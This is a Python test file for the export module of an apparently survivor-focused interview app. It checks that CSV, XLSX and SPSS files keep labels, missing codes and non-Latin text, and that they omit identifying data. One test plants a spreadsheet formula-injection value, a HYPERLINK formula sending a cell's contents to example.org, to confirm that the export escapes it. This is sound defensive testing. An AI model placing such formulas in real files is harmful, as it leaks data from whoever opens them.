"""Row-level files read back with pyreadstat, openpyxl and csv, against hand-made values."""

from __future__ import annotations

import csv
import io
import math

import openpyxl
import pyreadstat
import pytest

from empower.web.exports.files import make_export

from .conftest import BASELINE, ladder, research

pytestmark = pytest.mark.django_db

LADDER_HEALING = (
    "Picture a ladder with ten steps: step 1 means “not at all” and step 10 means “completely”. "
    "Which step are you on today when it comes to healing from the past, growing as a person "
    "and having relationships you can rely on?"
)
SECRET = "Nobody may read this 4471"


@pytest.fixture
def one_interview(org_a, person, interview):
    participant = person(org_a, gender="female", year_of_birth=BASELINE.year - 24,
                         region_of_origin="খুলনা", destination_country="မြန်မာ",
                         exploitation_types=["labour_trafficking", "forced_marriage"],
                         name="Real Name 4471", phone="0123 4471")
    answers = {**ladder(7, 3, "prefer_not_to_say", 4), "effect__family__healing": 2,
               "effect__family__purpose": "not_applicable", "effect__family__inner_peace": -1}
    interview(participant, answers, narratives={"note__family": SECRET}, language="bn",
              services=[{"service_type": "shelter", "provider_type": "ngo_cso",
                         "respected_wishes": False, "conditions": ["repeated_storytelling"],
                         "effects": {"healing": -1}}])
    return participant


def _all_text(content: bytes, fmt: str) -> str:
    """Everything a reader of the file can see, as text (XLSX files are zip archives)."""
    if fmt != "xlsx":
        return content.decode("utf-8", errors="replace")
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return "\n".join(str(cell) for sheet in workbook for row in sheet.values for cell in row)


def _read_sav(content: bytes, tmp_path, **options):
    path = tmp_path / "out.sav"
    path.write_bytes(content)
    return pyreadstat.read_sav(str(path), **options)


def test_sav_has_labels_value_labels_and_declared_missing(org_a, one_interview, tmp_path):
    export = make_export(org_a, "assessments", "sav", "own_reporting")
    frame, meta = _read_sav(export.content, tmp_path, user_missing=True)
    labels = dict(zip(meta.column_names, meta.column_labels, strict=True))
    assert labels["rating__healing"] == LADDER_HEALING
    assert labels["effect__family__healing"] == (
        "How did “Family acceptance or blame” affect you in the area of "
        "“Healing, growth and relationships”?"
    )
    ladder_labels = meta.variable_value_labels["rating__healing"]
    assert ladder_labels[1] == "1 – not at all"
    assert ladder_labels[10] == "10 – completely"
    assert ladder_labels[-99] == "Prefer not to say"
    effect_labels = meta.variable_value_labels["effect__family__healing"]
    assert effect_labels[-2] == "−2 strongly disempowering"
    assert effect_labels[2] == "+2 strongly empowering"
    assert effect_labels[-98] == "Does not apply"
    # prefer-not-to-say and does-not-apply are declared missing, not counted as numbers
    assert {"lo": -99.0, "hi": -99.0} in meta.missing_ranges["rating__inner_peace"]
    assert {"lo": -98.0, "hi": -98.0} in meta.missing_ranges["effect__family__purpose"]
    row = frame.iloc[0]
    assert row["participant"] == one_interview.code
    assert row["rating__healing"] == 7 and row["rating__purpose"] == 3
    assert row["rating__inner_peace"] == -99
    assert row["effect__family__purpose"] == -98
    assert row["effect__family__inner_peace"] == -1
    assert math.isnan(row["effect__family__self_capacity"])  # skipped: system-missing
    assert row["score__healing"] == pytest.approx(100 * 6 / 9)
    assert row["score__purpose"] == pytest.approx(100 * 2 / 9)
    assert row["language"] == "bn"
    assert row["region_of_origin"] == "খুলনা"
    assert str(row["conducted_on"])[:10] == BASELINE.isoformat()
    # read without user-missing values, SPSS semantics turn the codes into missing
    plain, _meta = _read_sav(export.content, tmp_path)
    assert math.isnan(plain.iloc[0]["rating__inner_peace"])
    assert "note__family" not in meta.column_names


def test_identifying_fields_and_notes_are_never_exported(org_a, one_interview):
    for dataset, fmt in [("assessments", "csv"), ("assessments", "xlsx"), ("assessments", "sav"),
                         ("scores", "csv"), ("services", "csv"), ("services", "sav"),
                         ("htcds", "csv"), ("htcds", "xlsx")]:
        for purpose in ("own_reporting", "research"):
            text = _all_text(make_export(org_a, dataset, fmt, purpose).content, fmt)
            if purpose == "own_reporting":
                assert one_interview.code in text
            else:  # research files carry the research code, never the participant code
                assert research(one_interview) in text
                assert one_interview.code not in text, (dataset, fmt)
            for secret in (SECRET, "Real Name 4471", "0123 4471", "4471"):
                assert secret not in text, (dataset, fmt, purpose)


def test_csv_has_a_bom_and_keeps_bengali_and_burmese(org_a, one_interview):
    content = make_export(org_a, "assessments", "csv", "own_reporting").content
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["region_of_origin"] == "খুলনা"
    assert row["destination_country"] == "မြန်မာ"
    assert row["rating__inner_peace"] == "prefer_not_to_say"
    assert row["effect__family__purpose"] == "not_applicable"
    assert row["effect__family__self_capacity"] == ""
    assert row["exploitation_types"] == "labour_trafficking;forced_marriage"
    assert row["conducted_on"] == BASELINE.isoformat()
    assert row["year_of_birth"] == str(BASELINE.year - 24)
    assert float(row["score__healing"]) == pytest.approx(66.6667, abs=1e-3)
    assert "note__family" not in row


def test_xlsx_has_data_and_a_sheet_describing_the_variables(org_a, one_interview):
    content = make_export(org_a, "assessments", "xlsx", "own_reporting").content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames[:2] == ["assessments", "variables"]
    data = list(workbook["assessments"].values)
    header, first = data[0], dict(zip(data[0], data[1], strict=True))
    assert header[0] == "participant" and first["participant"] == one_interview.code
    assert first["rating__healing"] == 7
    variables = {r[0]: r for r in list(workbook["variables"].values)[1:]}
    assert variables["rating__healing"][1] == LADDER_HEALING
    assert variables["rating__healing"][2] == "number"
    assert "1 = 1 – not at all" in variables["rating__healing"][3]
    assert "prefer_not_to_say = Prefer not to say" in variables["rating__healing"][3]


def test_scores_long_format(org_a, one_interview, tmp_path):
    content = make_export(org_a, "scores", "csv", "own_reporting").content
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [r["axis"] for r in rows] == ["healing", "purpose", "inner_peace", "self_capacity"]
    assert {r["participant"] for r in rows} == {one_interview.code}
    assert {r["instrument_id"] + "@" + r["instrument_version"] for r in rows} == {
        "empowerment-interview@2.0"}
    by_axis = {r["axis"]: r for r in rows}
    assert float(by_axis["purpose"]["score"]) == pytest.approx(22.2222, abs=1e-3)
    assert by_axis["inner_peace"]["score"] == ""
    assert by_axis["inner_peace"]["missing_reason"] == "prefer not to say"
    assert float(by_axis["self_capacity"]["score"]) == pytest.approx(33.3333, abs=1e-3)
    assert by_axis["self_capacity"]["missing_reason"] == ""
    frame, meta = _read_sav(make_export(org_a, "scores", "sav", "own_reporting").content,
                            tmp_path)
    assert list(frame.columns) == ["participant", "conducted_on", "instrument_id",
                                   "instrument_version", "axis", "score", "missing_reason"]
    assert dict(zip(meta.column_names, meta.column_labels, strict=True))["score"] == (
        "Axis score (0-100)")
    assert frame["score"].iloc[0] == pytest.approx(100 * 6 / 9)


def test_typed_formulas_never_run_and_effects_stay_numbers(org_a, person, interview):
    attack = '=HYPERLINK("http://example.org/?x="&A1,"Open")'
    participant = person(org_a, region_of_origin=attack, destination_country="@SUM(1+1)")
    interview(participant, {**ladder(5), "effect__family__healing": -2,
                            "effect__family__purpose": -1})
    rows = list(csv.DictReader(io.StringIO(make_export(
        org_a, "assessments", "csv", "own_reporting").content.decode("utf-8-sig"))))
    assert rows[0]["region_of_origin"] == "'" + attack
    assert rows[0]["destination_country"] == "'@SUM(1+1)"
    assert rows[0]["effect__family__healing"] == "-2"
    assert rows[0]["effect__family__purpose"] == "-1"
    workbook = openpyxl.load_workbook(io.BytesIO(make_export(
        org_a, "assessments", "xlsx", "own_reporting").content))
    header, first = list(workbook["assessments"].iter_rows(max_row=2))
    cells = {h.value: c for h, c in zip(header, first, strict=True)}
    assert cells["region_of_origin"].value == attack
    assert cells["region_of_origin"].data_type == "s" and cells["region_of_origin"].quotePrefix
    assert cells["effect__family__healing"].value == -2
    assert cells["effect__family__healing"].data_type == "n"


def test_sav_dates_are_spss_dates(org_a, one_interview, tmp_path):
    _frame, meta = _read_sav(make_export(org_a, "assessments", "sav", "research").content,
                             tmp_path)
    assert meta.original_variable_types["conducted_on"].startswith("DATE")
    assert meta.column_names[0] == "participant"


def test_same_item_on_another_scale_gets_its_own_column():
    from dataclasses import replace

    from empower.instruments import get_instrument
    from empower.instruments.model import Option
    from empower.web.exports.datasets import answer_variables

    v2 = get_instrument("empowerment-interview", "2.0")
    ladder_scale = v2.scales["ladder"]
    five = replace(ladder_scale, options=tuple(
        Option(n, {"en": str(n)}) for n in range(1, 6)), maximum=5)
    v21 = replace(v2, version="2.1", scales={**v2.scales, "ladder": five})
    v22 = replace(v2, version="2.2")
    variables, names = answer_variables([v2, v21, v22])
    assert names[(v2.key, "rating__healing")] == "rating__healing"
    assert names[(v22.key, "rating__healing")] == "rating__healing"  # same question: shared
    # same wording, but numbers 1-5 mean something else than 1-10: kept apart
    assert names[(v21.key, "rating__healing")] == "empowerment_interview_2_1__rating__healing"
    by_name = {v.name: v for v in variables}
    assert max(by_name["empowerment_interview_2_1__rating__healing"].value_labels) == 5
    assert max(by_name["rating__healing"].value_labels) == 10
